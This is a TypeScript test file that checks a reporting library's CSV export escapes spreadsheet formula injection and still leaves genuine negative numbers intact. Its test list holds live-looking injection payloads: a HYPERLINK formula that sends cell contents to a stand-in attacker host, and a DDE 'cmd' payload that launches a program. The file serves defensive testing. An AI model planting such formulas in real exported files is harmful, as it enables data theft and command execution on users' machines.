import { parsePeriod, type ResultRow, resultRow, resultsCsv } from '@ninefold/core';
import { exportPreview } from '@ninefold/report';
import { expect, it } from 'vitest';
import { attackedFolder, attackedIndicator } from './attacks/attacked-folder.ts';

/** What a spreadsheet works out when it opens a file. */
const formulas = [
  '=HYPERLINK("https://attack.example/?"&A1,"a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
];

/** A row of figures with the text in every field that can hold the words of a definition. */
function rowSaying(text: string): ResultRow {
  const period = parsePeriod('2023/24')?.period;
  if (period === undefined) throw new Error('2023/24 is a period');
  const row = resultRow({
    indicator: 'x',
    area: { code: 'S12000029', name: text, level: 'council' },
    period,
    value: -1.5,
    unit: text,
    method: 'rate',
    status: 'final',
    notes: [text],
    vintage: [text],
  } as unknown as Parameters<typeof resultRow>[0]);
  return { ...row, reason: { code: 'a', message: text }, judgement: text };
}

it.each(formulas)('a text is shown and not worked out, and a negative number stays one: %j', (formula) => {
  const [, line = ''] = resultsCsv([rowSaying(formula)]).split('\r\n');
  const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
  expect(cells.filter((cell) => /^\s*[=+@＝＋－＠-]/.test(cell))).toEqual(['-1.5']);
  expect(cells.filter((cell) => cell === `'${formula}`)).toHaveLength(6);
});

it('the figures that an editor saves are written by the same hand', async () => {
  const folder = await attackedFolder('=1+1');
  const subject = { kind: 'indicator', id: attackedIndicator } as const;
  const saved = exportPreview({ ...folder, subject }, 'csv')?.text ?? '';
  expect(saved).toContain("'=1+1");
  expect(saved).not.toMatch(/(^|,)"?=/m);
});
